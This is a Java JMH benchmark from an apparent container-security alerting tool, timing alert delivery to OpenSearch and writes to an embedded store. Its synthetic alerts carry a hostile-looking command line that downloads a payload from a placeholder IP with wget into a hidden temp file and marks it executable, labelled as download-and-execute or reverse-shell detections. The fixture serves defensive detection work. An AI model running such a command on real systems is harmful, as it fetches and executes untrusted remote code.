package dev.vigil.bench;

import dev.vigil.alert.Alert;
import dev.vigil.alert.Priority;
import dev.vigil.common.Metrics;
import dev.vigil.it.OpenSearchServer;
import dev.vigil.sink.delivery.DeliveryException;
import dev.vigil.sink.delivery.Envelope;
import dev.vigil.sink.opensearch.BulkBody;
import dev.vigil.sink.opensearch.OpenSearchConfig;
import dev.vigil.sink.opensearch.OpenSearchDestination;
import dev.vigil.store.AlertStore;
import dev.vigil.store.StoreConfig;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.Warmup;

/**
 * Alerts per second into the two stores of this package pair, one batch per operation scaled so the score is
 * alerts/s:
 *
 * <ul>
 *   <li>{@code openSearchBulk}: {@link OpenSearchDestination#deliver} of 500 new alerts (fresh ids, so every one is
 *       a real create) into a local single-node OpenSearch started by the benchmark ({@link OpenSearchServer}, the
 *       same as the integration test's; its startup is not measured). Daily index with the template's mapping.
 *   <li>{@code bulkBodyOnly}: building the same request body, without sending it: the agent's own CPU cost.
 *   <li>{@code storeInsert}: {@link AlertStore#offer} of 1,000 alerts then waiting until they are committed, so
 *       the score is the embedded store's sustained write rate (queue, writer thread, one transaction per batch,
 *       WAL with synchronous=NORMAL), on the machine's disk.
 * </ul>
 *
 * The alerts look like the engine's: 12 output fields, a 60-character command line. See docs/BENCHMARKS.md.
 */
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Threads(1)
@Fork(value = 1, jvmArgsAppend = {"-Xms1g", "-Xmx1g"})
@Warmup(iterations = 3, time = 5)
@Measurement(iterations = 5, time = 5)
public class AlertDeliveryBenchmark {

  static final int BULK = 500;
  static final int STORE_BATCH = 1000;

  static List<Alert> alerts(int n) {
    List<Alert> out = new ArrayList<>(n);
    Instant t0 = Instant.parse("2026-11-29T10:00:00Z");
    for (int i = 0; i < n; i++) {
      Instant t = t0.plusMillis(i * 37L);
      Map<String, Object> f = new LinkedHashMap<>();
      f.put("evt.time", t.getEpochSecond() * 1_000_000_000L + t.getNano());
      f.put("evt.type", "execve");
      f.put("container.id", String.format("%012x", 0x1000 + i % 6));
      f.put("container.name", "svc-" + i % 6);
      f.put("container.image.repository", "registry.example/team/svc-" + i % 6);
      f.put("container.image.tag", "1.4." + i % 3);
      f.put("proc.name", "sh");
      f.put("proc.cmdline", "sh -c wget -q -O /tmp/.x http://203.0.113.7/payload-" + i + " && chmod +x");
      f.put("proc.pid", 1000 + i);
      f.put("proc.pname", "node");
      f.put("user.name", "app");
      f.put("proc.exepath", "/bin/busybox");
      out.add(new Alert(t, i % 4 == 0 ? "Reverse shell in container" : "Download and execute in container",
          i % 4 == 0 ? Priority.CRITICAL : Priority.WARNING,
          "Download and run a file (container=svc-" + i % 6 + " cmdline=" + f.get("proc.cmdline") + ")", "syscall",
          List.of("container", "mitre_execution", "T1105"), "bench-host", f));
    }
    return out;
  }

  static List<Envelope> envelopes(List<Alert> alerts) {
    List<Envelope> b = new ArrayList<>(alerts.size());
    for (Alert a : alerts) {
      b.add(new Envelope(UUID.randomUUID().toString(), a));
    }
    return b;
  }

  /** A running OpenSearch and a destination for it. */
  @State(Scope.Benchmark)
  public static class Search {
    OpenSearchServer server;
    OpenSearchDestination destination;
    OpenSearchConfig cfg;
    List<Alert> alerts;

    @Setup(Level.Trial)
    public void start() throws Exception {
      server = OpenSearchServer.start();
      cfg = OpenSearchConfig.bind(new com.fasterxml.jackson.databind.ObjectMapper().readTree(
          "{\"url\":\"" + server.url() + "\",\"index\":\"vigil-bench\",\"max_batch\":" + BULK + "}"));
      destination = new OpenSearchDestination(cfg, Metrics.inMemory());
      alerts = alerts(BULK);
    }

    @TearDown(Level.Trial)
    public void stop() throws Exception {
      server.close();
    }
  }

  /** The alerts and config for body building only. */
  @State(Scope.Benchmark)
  public static class Body {
    List<Envelope> batch;
    OpenSearchConfig cfg;

    @Setup(Level.Trial)
    public void build() {
      batch = envelopes(alerts(BULK));
      cfg = OpenSearchConfig.of("http://127.0.0.1:9200");
    }
  }

  /** An open store in a temporary directory. */
  @State(Scope.Benchmark)
  public static class Store {
    Path dir;
    AlertStore store;
    List<Alert> alerts;
    long next;

    @Setup(Level.Trial)
    public void open() throws Exception {
      dir = Files.createTempDirectory("vigil-bench-store");
      store = AlertStore.open(dir.resolve("alerts.db"), new StoreConfig(true, null, Duration.ofDays(3650),
          100_000_000L, 100_000), Metrics.inMemory(), Clock.systemUTC());
      alerts = alerts(STORE_BATCH);
    }

    @TearDown(Level.Trial)
    public void close() throws Exception {
      store.close();
      System.out.printf("%nstore file: %d bytes for %d alerts%n", Files.size(dir.resolve("alerts.db")),
          store.written());
      try (Stream<Path> walk = Files.walk(dir)) {
        walk.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
      }
    }
  }

  @Benchmark
  @OperationsPerInvocation(BULK)
  public void openSearchBulk(Search s) throws DeliveryException {
    s.destination.deliver(envelopes(s.alerts));
  }

  @Benchmark
  @OperationsPerInvocation(BULK)
  public byte[] bulkBodyOnly(Body b) {
    return BulkBody.build(b.batch, b.cfg);
  }

  @Benchmark
  @OperationsPerInvocation(STORE_BATCH)
  public void storeInsert(Store s) throws InterruptedException {
    for (Alert a : s.alerts) {
      s.store.offer(Long.toString(s.next++), a);
    }
    if (!s.store.flush(Duration.ofMinutes(1))) {
      throw new IllegalStateException("store did not keep up within a minute");
    }
  }
}
